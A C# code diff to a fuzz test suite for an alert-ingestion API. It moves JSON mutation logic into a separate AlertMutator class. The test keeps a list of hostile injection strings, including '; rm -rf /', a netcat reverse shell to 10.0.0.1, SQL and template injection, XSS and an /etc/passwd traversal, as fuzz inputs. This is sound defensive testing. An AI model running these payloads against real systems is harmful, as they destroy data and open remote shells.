@@ -2,7 +2,6 @@ using System.Diagnostics;
 using System.Net.Http.Headers;
 using System.Text;
 using System.Text.Json;
-using System.Text.Json.Nodes;
 using Responder.Engine;
 using Responder.Engine.Journal;
 using Responder.Sdk;
@@ -32,6 +31,8 @@ public sealed class FuzzTests
         "${{ inputs.hostname }}", "${{ 7*7 }}", "}} ${{ alert.raw }}", "{{7*7}}", "$(reboot)", "`id`", "; rm -rf /", "| nc 10.0.0.1 1 -e sh", "'; DROP TABLE runs;--", "<script>alert(1)</script>", "]]>",
         "../../etc/passwd", @"\\srv\c$\x", "%00", "a\u0000b", "\u202Egpj.exe", "\r\nX-Injected: 1", "constructor", "__proto__", "\u0001\u001b[31m", "*)(uid=*", "\" | delete index=*", "{{=<% %>=}}",
     ];
+
+    private static readonly AlertMutator Mutator = new(Hostile);
 
     private static readonly IReadOnlyList<(string Source, string Body)> Seeds = [.. Samples_().Concat(Real())];
 
@@ -95,7 +96,7 @@ public sealed class FuzzTests
     {
         var random = new Random(seed);
         var (source, body) = Seeds[random.Next(Seeds.Count)];
-        var bytes = Mutate(body, random);
+        var bytes = Mutator.Mutate(body, random);
         using var content = new ByteArrayContent(bytes);
         content.Headers.ContentType = MediaTypeHeaderValue.Parse(random.Next(6) switch { 0 => "text/plain", 1 => "application/xml", _ => "application/json" });
         using var response = await bench.Api.PostAsync(new Uri($"/api/alerts/{(random.Next(5) == 0 ? "auto" : source)}", UriKind.Relative), content, WebBench.Cancel);
@@ -147,82 +148,4 @@ public sealed class FuzzTests
             .Where(file => Path.GetExtension(file) is ".json" or ".xml" or ".ndjson" && new FileInfo(file).Length < 60_000 && !file.Contains("cacao", StringComparison.Ordinal) && !file.Contains("spec-", StringComparison.Ordinal))
             .Order(StringComparer.Ordinal).Select(file => ("auto", File.ReadAllText(file)))
         : [];
-
-    private static byte[] Mutate(string body, Random random)
-    {
-        if (random.Next(3) != 0 && TryJson(body) is { } json)
-        {
-            body = Changed(json, random).ToJsonString();
-        }
-
-        var bytes = random.Next(12) switch { 0 => Encoding.Unicode.GetBytes(body), 1 => Encoding.Latin1.GetBytes(body), 2 => Encoding.UTF32.GetBytes(body), _ => Encoding.UTF8.GetBytes(body) };
-        for (var flips = random.Next(4) == 0 ? random.Next(1, 8) : 0; flips > 0 && bytes.Length > 0; flips--)
-        {
-            bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
-        }
-
-        return random.Next(12) == 0 ? bytes[..random.Next(bytes.Length)] : bytes;
-    }
-
-    private static JsonNode? TryJson(string body)
-    {
-        try
-        {
-            return JsonNode.Parse(body) is { } node and (JsonObject or JsonArray) ? node : null;
-        }
-        catch (JsonException)
-        {
-            return null;
-        }
-    }
-
-    private static JsonNode Changed(JsonNode root, Random random)
-    {
-        for (var changes = random.Next(1, 6); changes > 0; changes--)
-        {
-            var places = Places(root).ToList();
-            if (places.Count == 0)
-            {
-                break;
-            }
-
-            var (parent, name, index) = places[random.Next(places.Count)];
-            JsonNode? value = random.Next(6) switch
-            {
-                0 => null,
-                1 => random.NextInt64(long.MinValue, long.MaxValue),
-                2 => Deep(random.Next(1, 100)),
-                3 => new JsonArray([.. Enumerable.Range(0, random.Next(300)).Select(i => (JsonNode?)i)]),
-                _ => Hostile[random.Next(Hostile.Length)],
-            };
-            if (parent is JsonObject map)
-            {
-                map[name!] = value;
-            }
-            else
-            {
-                ((JsonArray)parent)[index] = value;
-            }
-        }
-
-        return root;
-    }
-
-    private static JsonNode Deep(int levels)
-    {
-        JsonNode node = "end";
-        for (var i = 0; i < levels; i++)
-        {
-            node = i % 2 == 0 ? new JsonArray(node) : new JsonObject { ["d"] = node };
-        }
-
-        return node;
-    }
-
-    private static IEnumerable<(JsonNode Parent, string? Name, int Index)> Places(JsonNode node) => node switch
-    {
-        JsonObject map => map.SelectMany(one => (one.Value is null ? [] : Places(one.Value)).Append((map, one.Key, 0))),
-        JsonArray list => list.SelectMany((one, i) => (one is null ? [] : Places(one)).Append((list, null, i))),
-        _ => [],
-    };
 }
